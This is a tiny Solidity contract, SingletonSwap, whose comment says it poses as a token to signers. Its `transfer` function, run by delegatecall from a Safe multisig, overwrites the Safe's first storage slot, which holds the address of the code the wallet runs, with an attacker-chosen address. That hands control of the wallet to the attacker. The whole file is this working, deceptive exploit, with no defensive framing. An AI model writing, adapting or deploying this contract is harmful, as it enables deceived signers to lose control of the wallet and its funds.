// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

/// @title Looks like a token to whoever signs. Run by delegatecall it writes the first slot of the Safe: whose code it runs.
contract SingletonSwap {
    address private singleton;

    function transfer(address to, uint256) external {
        singleton = to;
    }
}
